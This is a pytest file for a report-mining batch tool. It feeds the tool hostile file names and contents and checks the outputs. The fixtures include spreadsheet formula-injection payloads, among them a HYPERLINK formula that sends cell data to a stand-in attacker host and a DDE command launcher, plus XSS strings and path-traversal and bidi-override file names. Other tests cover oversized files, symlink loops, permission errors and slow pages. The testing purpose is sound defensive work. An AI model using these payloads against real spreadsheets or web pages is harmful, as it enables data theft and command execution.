"""Inputs made to do harm, through the whole run: each on record, and nothing outside OUT is touched."""

import csv
import os
import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from run_faults import in_process

from reportminer.batch import Outcome, run
from reportminer.batch.run import Job
from reportminer.errors import LimitError
from reportminer.ingest import find

Rows = Callable[[Path], list[dict[str, str]]]
NAMES = [
    "line\nbreak.txt",
    "right\u202eto left.txt",
    "=cmd|' !A0'.txt",
    "<img src=x onerror=alert(1)>.txt",
    "@SUM(1+1).txt",
    os.fsdecode(b"latin-\xe9.txt"),
    "up\\..\\..\\up.txt",
    "a" * 250 + ".txt",
]
EVIL = """=HYPERLINK("http://evil.example/?q="&A1,"Report")

Challenges

=cmd|' /C calc'!A0 was late, and delays in funding were a serious challenge for all partners.
</script><script>alert("out")</script> The council was late by a year, which was a serious problem.
<img src=x onerror=alert(1)> Staff turnover delayed the clinics, a major challenge.

Recommendations

@SUM(1+1) The council should pay <b>in time</b>.
+44 The ministry should keep one inspector at each port.
"""
FORMULA = re.compile(r"^\s*[=+\-@]\s*[A-Za-z(]")


@pytest.fixture(autouse=True)
def _here() -> Iterator[None]:
    with in_process():
        yield


def tree(folder: Path, but: Path) -> dict[str, bytes | str]:
    """All that lies in a folder, OUT left out."""
    return {
        os.fsencode(path).decode("utf-8", "replace"): path.read_bytes() if path.is_file() else "folder"
        for path in folder.rglob("*")
        if but not in (path, *path.parents)
    }


def test_no_name_and_no_word_gets_out_of_its_place(tmp_path: Path, read_rows: Rows) -> None:
    folder, out = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    for number, name in enumerate(NAMES):
        (folder / name).write_text(f"{EVIL}\nSeen by {number} people.\n")
    before = tree(tmp_path, out)
    result = run(Job((str(folder),), out))
    assert tree(tmp_path, out) == before
    assert result.totals.counts["reports"] == len(NAMES)
    for path in out.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if FORMULA.match(cell)], path.name
    for row in read_rows(out / "reports.csv"):
        assert row["source"].isprintable()
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert all(re.fullmatch(r"r[0-9a-f]{12}\.txt", path.name) for path in (out / "texts").iterdir())


def test_a_text_of_a_gigabyte_is_refused_before_it_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with (tmp_path / "vast.txt").open("wb") as file:
        file.truncate(2**30)  # takes no space on disk
    monkeypatch.setattr(sys.modules["reportminer.ingest.find"], "sha256_of", None)
    found = find([str(tmp_path)], max_bytes=256 * 2**20, hash_of=lambda _: pytest.fail("it was read"))
    (refused,) = found.refused
    assert isinstance(refused.error, LimitError)
    assert "1024 MiB" in refused.error.message
    assert "--max-mb" in refused.error.hint


def test_links_that_lead_to_themselves_are_told(many: Path, tmp_path: Path, read_rows: Rows) -> None:
    (many / "self.txt").symlink_to("self.txt")
    (many / "one.txt").symlink_to("two.txt")
    (many / "two.txt").symlink_to("one.txt")
    (many / "below").symlink_to(many, target_is_directory=True)
    run(Job((str(many),), tmp_path / "out"))
    told = {Path(row["source"]).stem: row for row in read_rows(tmp_path / "out" / "failures.csv")}
    assert set(told) == {"self", "one", "two", "cut"}
    assert all(row["error"] and row["hint"] for row in told.values())
    assert len(read_rows(tmp_path / "out" / "reports.csv")) == 7


def test_a_folder_that_changes_during_the_run(many: Path, tmp_path: Path, read_rows: Rows) -> None:
    out = tmp_path / "out"
    touched = False

    def change(_: Outcome) -> None:
        nonlocal touched
        if not touched:
            (many / "alder.txt").unlink()
            (many / "gorse.txt").rename(many / "whin.txt")
            (many / "late.txt").write_text("It came late: delays were a serious challenge.\n")
        touched = True

    run(Job((str(many),), out), change)
    read = {Path(row["source"]).stem for row in read_rows(out / "reports.csv")}
    told = {Path(row["source"]).stem for row in read_rows(out / "failures.csv")}
    assert not read & told
    assert read | told == {"alder", "birch", "cedar", "dogwood", "elm", "fir", "gorse", "cut"}
    run(Job((str(many),), out))
    now = {Path(row["source"]).stem for row in read_rows(out / "reports.csv")}
    assert now == {"birch", "cedar", "dogwood", "elm", "fir", "whin", "late"}
    assert [Path(row["source"]).stem for row in read_rows(out / "failures.csv")] == ["cut"]


def test_what_may_not_be_opened_is_told_and_read_when_it_may(
    many: Path, tmp_path: Path, read_rows: Rows, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    real = Path.open

    def shut(path: Path, *words: object, **more: object) -> object:
        if path.name == "elm.txt":
            raise PermissionError(13, "Permission denied", str(path))
        return real(path, *words, **more)  # type: ignore[call-overload]

    with monkeypatch.context() as patch:
        patch.setattr(Path, "open", shut)
        run(Job((str(many),), out))
    told = {Path(row["source"]).stem: row for row in read_rows(out / "failures.csv")}
    assert "Permission denied" in told["elm"]["error"]
    assert "permissions" in told["elm"]["hint"]
    assert run(Job((str(many),), out)).totals.counts["reports"] == 7


def test_a_page_that_takes_too_long_is_marked_and_the_rest_is_read(
    tmp_path: Path, read_rows: Rows, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reportminer.config import Limits, Settings
    from reportminer.parse.pdf import reader

    lay_out = reader.lay_out

    def slow(number: int, *words: object) -> object:
        while number == 2:
            pass
        return lay_out(number, *words)  # type: ignore[arg-type]

    monkeypatch.setattr(reader, "lay_out", slow)
    report = Path(__file__).parents[2] / "corpus" / "pdf" / "library_digital_share.pdf"
    settings = Settings(Limits(max_page_seconds=0.3))
    monkeypatch.setattr("run_faults.PIPELINE.settings", settings)
    run(Job((str(report),), tmp_path / "out", settings=settings))
    pages = read_rows(tmp_path / "out" / "pages.csv")
    assert [row["page"] for row in pages if row["status"] == "failed"] == ["2"]
    assert [row["status"] for row in pages] == ["ok", "failed"]
    (row,) = read_rows(tmp_path / "out" / "reports.csv")
    assert "--max-page-seconds" in row["warnings"]
